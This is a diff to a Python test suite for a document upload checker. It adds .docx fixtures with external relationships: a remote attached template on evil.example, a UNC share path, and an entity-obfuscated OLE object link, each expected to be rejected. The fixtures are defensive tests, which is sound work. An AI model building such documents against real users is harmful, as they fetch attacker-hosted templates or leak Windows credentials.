@@ -64,10 +64,21 @@ def add_to(archive: bytes, name: str, content: bytes) -> bytes:
     return held.getvalue()
 
 
+def make_docx_that_names(kind: str, target: str) -> bytes:
+    """A document whose settings name something outside of it."""
+    kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
+    relation = f"<x:Relationship Id='r1' Type='{kind}' Target='{target}' TargetMode='External'/>"
+    space = "http://schemas.openxmlformats.org/package/2006/relationships"
+    relations = f"<x:Relationships xmlns:x='{space}'>{relation}</x:Relationships>"
+    return add_to(make_docx(), "word/_rels/settings.xml.rels", relations.encode())
+
+
 @pytest.mark.parametrize(
     ("name", "content"),
     [
         ("decision.pdf", PDF),
+        ("link.docx", make_docx_that_names("hyperlink", "https://example.org/law")),
+        ("own.docx", make_docx_that_names("attachedTemplate", "file:///C:/Users/A/Normal.dotm")),
         ("decision.docx", make_docx()),
         ("table.XLSX", make_xlsx()),
         ("text.odt", make_zip({"mimetype": b"application/vnd.oasis.opendocument.text"})),
@@ -102,6 +113,12 @@ def test_file_is_kept_under_its_hash(name: str, content: bytes) -> None:
         ("macros.docx", add_to(make_docx(), "word/vbaProject.bin", b"x"), "macros"),
         ("script.odt", make_zip({"mimetype": b"application/vnd.oasis.opendocument.text",
                                  "Basic/script.xml": b"x"}), "macros"),
+        ("template.docx", make_docx_that_names("attachedTemplate", "https://evil.example/t.dotm"),
+         "from another place"),
+        ("share.docx", make_docx_that_names("attachedTemplate", r"\\evil.example\t.dotm"),
+         "from another place"),
+        ("hidden.docx", make_docx_that_names("oleObject", "&#104;ttp://evil.example/x.rtf"),
+         "from another place"),
         ("wrong.xlsx", make_docx(), "no XLSX"),
         ("wrong.pdf", PNG, "named .pdf"),
         ("wrong.docx", PDF, "named .docx"),
